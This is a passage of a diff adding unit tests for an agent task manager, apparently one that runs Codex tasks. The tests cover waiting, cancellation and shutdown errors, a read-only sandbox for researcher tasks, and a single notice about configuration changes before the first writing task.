+    const stopped = tasks.wait({ caller: 'b', ids: [id], until: 'any', timeoutMs: 60_000 });
+    abort.abort(new Error('no longer'));
+    await expect(cancelled).rejects.toThrow('no longer');
+    const ending = expect(stopped).rejects.toMatchObject({ code: 'shutting_down' });
+    await tasks.shutDown();
+    await ending;
+    await expect(tasks.spawn({ prompt: 'late' }, 'a')).rejects.toMatchObject({ code: 'shutting_down' });
+  });
+});
+
+it('tells once, before the first task that may write, what Codex does to its configuration', async () => {
+  const { sandbox } = await tasks.spawn({ prompt: 'x', taskType: 'researcher' }, 'caller');
+  expect([sandbox, announced.length]).toEqual(['read-only', 0]);
+  await tasks.spawn({ prompt: 'x' }, 'caller');
+  await tasks.spawn({ prompt: 'x' }, 'caller');
+  expect(announced).toHaveLength(1);
+});
